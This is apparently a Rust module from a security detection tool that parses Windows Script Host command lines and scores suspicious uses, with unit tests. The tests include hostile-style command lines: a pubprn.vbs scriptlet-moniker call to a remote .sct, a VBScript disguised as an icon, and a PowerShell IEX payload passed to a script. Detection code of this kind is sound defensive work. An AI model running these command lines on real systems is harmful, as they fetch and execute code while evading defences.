//! What Windows Script Host was told to run.
//!
//! Its own options begin with `//`, in practice also with `/`, and stand before or after
//! the script; everything else after the script belongs to the script. `//E:` names the
//! engine, which otherwise follows from the extension: with it any file is a script.

use sandtrap_sdk::windows::{Invocation, Traits, command_line, path, script::Trait};

use crate::{
    catalogue,
    origin::{Origin, resolve},
    settings::Tuning,
    stage::{Stage, brief},
};

/// The extensions that are scripts without being told so.
const EXTENSIONS: &[&str] = &["vbs", "vbe", "js", "jse", "wsf", "wsh", "wsc"];
const OPTIONS: &[&str] = &[
    "b", "d", "h", "i", "job", "logo", "nologo", "s", "t", "u", "x",
];
/// How many arguments are read.
const MAX_ARGUMENTS: usize = 64;

/// A command line of the script host, understood.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Run {
    /// The script as given; empty if there is none.
    pub script: String,
    /// What the script gets.
    pub arguments: Vec<String>,
    engine: Option<String>,
}

impl Run {
    /// Reads a command line.
    pub fn parse(line: &str) -> Self {
        let mut run = Self::default();
        for argument in command_line::arguments_after_executable(line).take(MAX_ARGUMENTS) {
            let text = argument.text.into_owned();
            match Switch::parse(&text) {
                Some(Switch::Engine(engine)) => run.engine = Some(engine.to_ascii_lowercase()),
                Some(Switch::Other) => {}
                None if run.script.is_empty() => run.script = text,
                None => run.arguments.push(text),
            }
        }
        run
    }

    /// What this is worth. `directory` is the working directory, `host` the image.
    pub fn stages(&self, tuning: &Tuning, directory: &str, host: &str) -> Vec<Stage> {
        let mut stages = Vec::new();
        if self.script.is_empty() {
            return stages;
        }
        stages.extend(catalogue::abuse(&self.script, &self.arguments, host));
        stages.extend(self.moniker());
        stages.extend(self.engine_stage());
        stages.extend(self.placement(directory));
        stages.extend(self.embedded_command(tuning));
        stages
    }

    /// A scriptlet given as the name of an object: whoever binds to it runs it.
    fn moniker(&self) -> Option<Stage> {
        let is_moniker = |argument: &&String| {
            let plain = argument.replace('^', "").trim().to_ascii_lowercase();
            plain
                .strip_prefix("script:")
                .is_some_and(|target| target.len() > 3)
        };
        let moniker = self.arguments.iter().find(is_moniker)?;
        let name = brief(path::file_name(&self.script));
        Some(Stage::new(
            "abuse.scriptlet-moniker",
            50,
            format!("had {name} bind to the scriptlet {}", brief(moniker)),
        ))
    }

    fn engine_stage(&self) -> Option<Stage> {
        let engine = self.engine.as_deref()?;
        let script = brief(&self.script);
        let extension = path::extension(&self.script).to_ascii_lowercase();
        if !EXTENSIONS.contains(&extension.as_str()) {
            let note = format!("was told to take {script} for a script ({engine})");
            return Some(Stage::new("invocation.disguised-script", 30, note));
        }
        if engine.starts_with('{') {
            let note = format!(
                "ran {script} with an engine named by its class, {}",
                brief(engine)
            );
            return Some(Stage::new("invocation.engine-class", 30, note));
        }
        let note = format!("was told the engine of {script} ({engine})");
        Some(Stage::new("invocation.engine", 10, note))
    }

    fn placement(&self, directory: &str) -> Vec<Stage> {
        let mut stages = Vec::new();
        let origin = Origin::of(&self.script, directory);
        stages.extend(origin.stage("a script", &self.script, 20));
        let name = path::file_name(&self.script);
        let is_shipped = catalogue::is_shipped(name);
        if is_shipped && origin != Origin::Windows && origin != Origin::Unresolved {
            let note = format!(
                "ran a copy of {name} outside Windows: {}",
                brief(&self.script)
            );
            stages.push(Stage::new("invocation.copied-script", 25, note));
        }
        let resolved = path::normalise(&resolve(&self.script, directory));
        if !is_shipped && is_directly_in_windows(&resolved) {
            let note = format!(
                "ran a script among the files of Windows that Windows does not ship: {}",
                brief(&self.script)
            );
            stages.push(Stage::new("payload.planted-script", 20, note));
        }
        stages
    }

    /// A command for PowerShell, or code, that the script is handed as an argument.
    fn embedded_command(&self, tuning: &Tuning) -> Option<Stage> {
        let text = self.arguments.join(" ");
        if text.is_empty() || catalogue::is_shipped(path::file_name(&self.script)) {
            return None;
        }
        let nested = Invocation::nested(&text);
        let script = nested.as_ref().and_then(Invocation::script);
        let is_code = [Trait::Download, Trait::InvokeExpression, Trait::Reflection];
        let is_payload = tuning.payload_in(&text).is_some()
            || Traits::of_layers(script.unwrap_or(&text)).has_any(&is_code)
            || nested
                .as_ref()
                .is_some_and(|nested| nested.encoded_command.is_some());
        is_payload.then(|| {
            let note = format!("handed the script a payload: {}", brief(&text));
            Stage::new("payload.embedded-command", 30, note)
        })
    }
}

enum Switch<'a> {
    Engine(&'a str),
    Other,
}

impl<'a> Switch<'a> {
    fn parse(text: &'a str) -> Option<Self> {
        let rest = text.strip_prefix("//").or_else(|| text.strip_prefix('/'))?;
        let (name, value) = rest.split_once(':').unwrap_or((rest, ""));
        let name = name.to_ascii_lowercase();
        match name.as_str() {
            "e" => Some(Self::Engine(value)),
            name if OPTIONS.contains(&name) => Some(Self::Other),
            _ => None,
        }
    }
}

/// In `\Windows`, `System32` or `SysWOW64` itself, where only Windows puts scripts.
fn is_directly_in_windows(normalised: &str) -> bool {
    let rooted = normalised.strip_prefix("c:").unwrap_or(normalised);
    let Some((directory, name)) = rooted.rsplit_once('/') else {
        return false;
    };
    let homes = ["/windows", "/windows/system32", "/windows/syswow64"];
    !name.is_empty() && homes.contains(&directory)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::settings::Settings;

    fn stages(line: &str, directory: &str) -> Vec<(&'static str, i32)> {
        let tuning = Tuning::new(Settings::default()).unwrap();
        let run = Run::parse(line);
        let host = "C:\\Windows\\System32\\cscript.exe";
        let stages = run.stages(&tuning, directory, host).into_iter();
        stages.map(|stage| (stage.name, stage.score)).collect()
    }

    #[test]
    fn options_are_the_hosts_and_the_rest_is_the_scripts() {
        let run = Run::parse("cscript //nologo /E:VBS \"C:\\a b\\c.ico\" one //B /two");
        assert_eq!(run.script, "C:\\a b\\c.ico");
        assert_eq!(run.arguments, ["one", "/two"]);
        assert_eq!(run.engine.as_deref(), Some("vbs"));
    }

    #[test]
    fn a_moniker_is_found_in_any_spelling() {
        for argument in [
            "script:https://example.org/a.sct",
            "SCRIPT:C:\\a.sct",
            "s^cript:\\\\h\\s",
        ] {
            let line = format!(
                "cscript /b C:\\Windows\\System32\\Printing_Admin_Scripts\\de-DE\\pubprn.vbs \
                 localhost \"{argument}\""
            );
            assert_eq!(
                stages(&line, ""),
                [("abuse.scriptlet-moniker", 50)],
                "{argument}"
            );
        }
        let line = "cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs \
                    printserver LDAP://CN=Printers,DC=corp,DC=example";
        assert_eq!(stages(line, ""), []);
    }

    #[test]
    fn a_disguised_script_is_worth_more_than_a_named_engine() {
        let disguised = stages("wscript /E:vbs c:\\windows\\temp\\icon.ico", "");
        assert_eq!(
            disguised,
            [
                ("invocation.disguised-script", 30),
                ("payload.user-writable", 20)
            ]
        );
        let named = stages("cscript //e:jscript a.js", "C:\\Users\\a\\Desktop\\");
        assert_eq!(
            named,
            [("invocation.engine", 10), ("payload.user-writable", 20)]
        );
        let class = "cscript //e:{16d51579-a30b-4c8b-a276-0ff4dc41e755} C:\\Tools\\a.js";
        let elsewhere = ("payload.elsewhere", 10);
        assert_eq!(
            stages(class, ""),
            [("invocation.engine-class", 30), elsewhere]
        );
    }

    #[test]
    fn the_place_of_a_script_counts() {
        assert_eq!(
            stages("wscript C:\\Windows\\System32\\slmgr.vbs /dli", ""),
            []
        );
        assert_eq!(
            stages("wscript C:\\Windows\\System32\\update.vbs", ""),
            [("payload.planted-script", 20)]
        );
        assert_eq!(
            stages("cscript C:\\Users\\a\\pubprn.vbs", ""),
            [
                ("payload.user-writable", 20),
                ("invocation.copied-script", 25)
            ]
        );
        assert_eq!(stages("cscript \"C:\\Program Files\\a\\b.vbs\"", ""), []);
        assert_eq!(
            stages("cscript /nologo \"MonitorKnowledgeDiscovery.vbs\"", ""),
            []
        );
    }

    #[test]
    fn a_payload_in_the_arguments_counts() {
        let line = "wscript run.vbs \"powershell -c \"\"IEX (gc C:\\a.txt)\"\"\"";
        assert_eq!(stages(line, ""), [("payload.embedded-command", 30)]);
        assert_eq!(stages("wscript run.vbs /quiet 10", ""), []);
    }
}
